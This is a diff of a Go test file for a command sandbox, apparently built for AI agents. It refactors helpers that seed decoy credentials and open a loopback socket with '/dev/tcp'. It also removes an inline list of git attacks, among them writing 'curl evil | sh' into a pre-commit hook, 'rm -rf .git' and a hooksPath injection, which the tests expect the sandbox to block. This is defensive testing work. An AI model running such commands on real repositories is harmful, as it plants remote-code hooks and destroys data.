@@ -7,7 +7,6 @@ import (
 	"context"
 	"errors"
 	"fmt"
-	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -23,91 +22,6 @@ import (
 func TestMain(m *testing.M) {
 	Main() // this test binary is also the launcher
 	os.Exit(m.Run())
-}
-
-// box is a sandbox on a temporary workspace, with one session's scratch.
-type box struct {
-	t  *testing.T
-	s  *Sandbox
-	ws string
-	sc *Scratch
-}
-
-func newBox(t *testing.T, cfg Config) *box {
-	t.Helper()
-	if cfg.Workspace == "" {
-		cfg.Workspace = t.TempDir()
-	}
-	if cfg.Env == nil {
-		cfg.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + cfg.Home}
-	}
-	s, err := New(cfg)
-	require.NoError(t, err)
-	t.Cleanup(func() { s.Close() })
-	sc, err := s.NewScratch()
-	require.NoError(t, err)
-	ws, err := filepath.EvalSymlinks(cfg.Workspace)
-	require.NoError(t, err)
-	return &box{t: t, s: s, ws: ws, sc: sc}
-}
-
-// run runs command in the workspace and returns its output and exit.
-func (b *box) run(command string) (string, Exit) {
-	b.t.Helper()
-	ctx, cancel := context.WithTimeout(b.t.Context(), 30*time.Second)
-	defer cancel()
-	return b.runCtx(ctx, command)
-}
-
-func (b *box) runCtx(ctx context.Context, command string) (string, Exit) {
-	b.t.Helper()
-	var out bytes.Buffer
-	c, err := b.s.Start(ctx, Spec{Command: command, Dir: b.ws, Scratch: b.sc, Output: &out})
-	require.NoError(b.t, err)
-	exit, err := c.Wait()
-	require.NoError(b.t, err, "output: %s", out.String())
-	return out.String(), exit
-}
-
-// ok runs command and requires it to succeed.
-func (b *box) ok(command string) string {
-	b.t.Helper()
-	out, exit := b.run(command)
-	require.Equal(b.t, 0, exit.Code, "%s\n%s", command, out)
-	return out
-}
-
-// fails runs command and requires it to fail.
-func (b *box) fails(command string) string {
-	b.t.Helper()
-	out, exit := b.run(command)
-	require.NotEqual(b.t, 0, exit.Code, "%s should fail, but printed:\n%s", command, out)
-	return out
-}
-
-// fakeHome makes a home directory with secrets, outside the system
-// temporary directory (which commands cannot read at all).
-func fakeHome(t *testing.T) string {
-	t.Helper()
-	base, err := os.UserCacheDir()
-	require.NoError(t, err)
-	require.NoError(t, os.MkdirAll(base, 0o755))
-	home, err := os.MkdirTemp(base, "agentbox-test-home-")
-	require.NoError(t, err)
-	t.Cleanup(func() { os.RemoveAll(home) })
-	for name, content := range map[string]string{
-		".ssh/id_ed25519":  "PRIVATE KEY",
-		".aws/credentials": "AWS SECRET",
-		".netrc":           "machine x password NETRC",
-		".config/gh/hosts": "oauth_token: GHTOKEN",
-		"notes.txt":        "visible notes",
-		"tools/bin/hello":  "#!/bin/sh\necho hello from a toolchain\n",
-	} {
-		p := filepath.Join(home, name)
-		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
-		require.NoError(t, os.WriteFile(p, []byte(content), 0o755))
-	}
-	return home
 }
 
 func TestWritesStayInside(t *testing.T) {
@@ -147,22 +61,7 @@ func TestWritesStayInside(t *testing.T) {
 
 func TestNetwork(t *testing.T) {
 	t.Parallel()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	t.Cleanup(func() { ln.Close() })
-	accepted := make(chan struct{}, 4)
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			c.Close()
-			accepted <- struct{}{}
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
-	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
+	connect, accepted := loopback(t)
 
 	t.Run("refuses a loopback listener outside", func(t *testing.T) {
 		b := newBox(t, Config{})
@@ -244,12 +143,7 @@ func TestGitProtected(t *testing.T) {
 	t.Parallel()
 	setup := func(t *testing.T, allow bool) *box {
 		b := newBox(t, Config{AllowGitConfig: allow})
-		for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
-			require.NoError(t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
-		}
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
-		// The launch plan is made per command, so a .git made now counts.
+		b.gitRepo()
 		return b
 	}
 	b := setup(t, false)
@@ -257,13 +151,7 @@ func TestGitProtected(t *testing.T) {
 		t.Skip("no mount namespace here")
 	}
 	b.ok("echo ref > .git/refs/x && touch .git/index")
-	for _, cmd := range []string{
-		"echo 'curl evil | sh' > .git/hooks/pre-commit",
-		"printf '[core]\\nhooksPath = x\\n' >> .git/config",
-		"mv .git .git-old",
-		"rm -rf .git/hooks",
-		"rm -rf .git",
-	} {
+	for _, cmd := range gitAttacks {
 		b.fails(cmd)
 	}
 	assert.NoFileExists(t, filepath.Join(b.ws, ".git/hooks/pre-commit"))
@@ -286,13 +174,6 @@ func TestGitProtected(t *testing.T) {
 		ab := setup(t, true)
 		ab.ok("echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[user]' >> .git/config")
 	})
-}
-
-func readFile(t *testing.T, name string) string {
-	t.Helper()
-	b, err := os.ReadFile(name)
-	require.NoError(t, err)
-	return string(b)
 }
 
 // marked lists the host's processes whose command line holds marker.
